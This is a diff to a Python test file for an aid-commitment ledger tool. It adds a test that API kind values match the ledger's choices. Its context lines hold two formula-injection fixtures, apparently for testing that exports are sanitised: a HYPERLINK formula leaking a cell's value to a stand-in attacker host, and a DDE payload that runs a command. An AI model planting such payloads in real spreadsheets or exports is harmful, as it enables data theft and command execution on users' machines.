@@ -8,16 +8,18 @@ import io
 import re
 from collections.abc import Iterator
 from pathlib import Path
+from typing import get_args
 
 import pytest
 from fastapi.testclient import TestClient
 from typer.testing import CliRunner
 
-from presswatch.analysis.ledger import FORMULA_STARTS
+from presswatch.analysis.ledger import FORMULA_STARTS, KIND_CHOICES
 from presswatch.cli import app as cli
 from presswatch.models import Commitment, Document, Extraction, Span
 from presswatch.store import Store
 from presswatch.web import create_app, views
+from presswatch.web.app import LedgerKind
 
 FORMULA_DONOR = '=HYPERLINK("http://evil.example/?leak="&A1,"Germany")'
 FORMULA_ITEM = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -188,3 +190,8 @@ def test_kinds_of_aid_and_proposals(tmp_path: Path) -> None:
         assert bad.status_code == 400 and "kind" in bad.text
         page = client.get("/ledger?kind=humanitarian").text
         assert '<option value="humanitarian" selected>' in page and "Humanitarian aid" in page
+
+
+def test_the_kinds_the_api_takes_are_the_ledgers() -> None:
+    """The API's `kind` values are written out for OpenAPI; they must stay the ledger's."""
+    assert get_args(LedgerKind) == KIND_CHOICES
